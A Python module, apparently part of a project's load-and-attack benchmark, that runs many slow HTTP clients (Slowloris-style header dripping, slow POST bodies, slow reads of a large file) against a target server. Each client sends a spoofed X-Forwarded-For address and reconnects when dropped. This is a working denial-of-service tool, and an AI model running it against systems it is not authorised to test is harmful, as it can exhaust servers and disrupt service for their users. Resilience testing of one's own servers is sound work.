"""Clients that take all the time in the world: over their headers, their bodies, or over reading what they asked for."""

import asyncio
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import dataclass

from bench.attack.wire import Target, write_request

KINDS = ("headers", "bodies", "reads")
PAUSE = 1.0  # seconds between two bytes
LONG_BODY = 100_000  # bytes that are promised
_SMALL_WINDOW = 2048  # bytes of an answer that the system takes before it is read
LARGE_ANSWER = "/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js"  # 1.6 MB
_TOGETHER = 50  # that come in one second: what is measured is their slowness, not a flood


@dataclass(frozen=True)
class Slow:
    """A slow client: at whom, over what, from where."""

    target: Target
    kind: str
    address: str
    delay: float
    connected: list[asyncio.StreamWriter]

    async def dawdle(self) -> None:
        """One that is turned away comes again, as an attacker would."""
        await asyncio.sleep(self.delay)
        while True:
            with suppress(OSError):
                reader, writer = await self._connect()
                self.connected.append(writer)
                try:
                    await self._be_slow(reader, writer)
                finally:
                    self.connected.remove(writer)
                    writer.close()
            await asyncio.sleep(PAUSE)

    async def _be_slow(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if self.kind == "reads":
            writer.write(write_request(self.target, "GET", LARGE_ANSWER, address=self.address))
            while await reader.read(1):
                await asyncio.sleep(PAUSE)
            return
        begun = (
            f"POST /v1/track HTTP/1.1\r\nHost: {self.target.authority}\r\nX-Forwarded-For: {self.address}\r\n"
        )
        if self.kind == "bodies":
            begun += f"Content-Type: application/json\r\nContent-Length: {LONG_BODY}\r\n\r\n"
        writer.write(begun.encode())
        dripping = asyncio.create_task(_drip(writer, b"X-A: b\r\n" if self.kind == "headers" else b"    "))
        try:
            await reader.read()  # whatever it says, until it has had enough
        finally:
            dripping.cancel()

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        raw = socket.socket()
        raw.setblocking(False)
        if self.kind == "reads":
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_WINDOW)
        try:
            await asyncio.get_running_loop().sock_connect(raw, (self.target.host, self.target.port))
            return await asyncio.open_connection(sock=raw, limit=_SMALL_WINDOW)
        except BaseException:
            raw.close()
            raise


@asynccontextmanager
async def dawdle(target: Target, kind: str, number: int) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """So many slow clients while the block runs; those that the server has not turned away are told."""
    connected: list[asyncio.StreamWriter] = []
    clients = [
        Slow(target, kind, f"203.0.{turn // 250}.{turn % 250}", turn / _TOGETHER, connected)
        for turn in range(number)
    ]
    tasks = [asyncio.create_task(client.dawdle()) for client in clients]
    try:
        await asyncio.sleep(2 + number / _TOGETHER)
        yield connected
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        for writer in connected:
            writer.transport.abort()


async def _drip(writer: asyncio.StreamWriter, drop: bytes) -> None:
    position = 0
    while True:
        await asyncio.sleep(PAUSE)
        writer.write(drop[position : position + 1])
        position = (position + 1) % len(drop)
        await writer.drain()
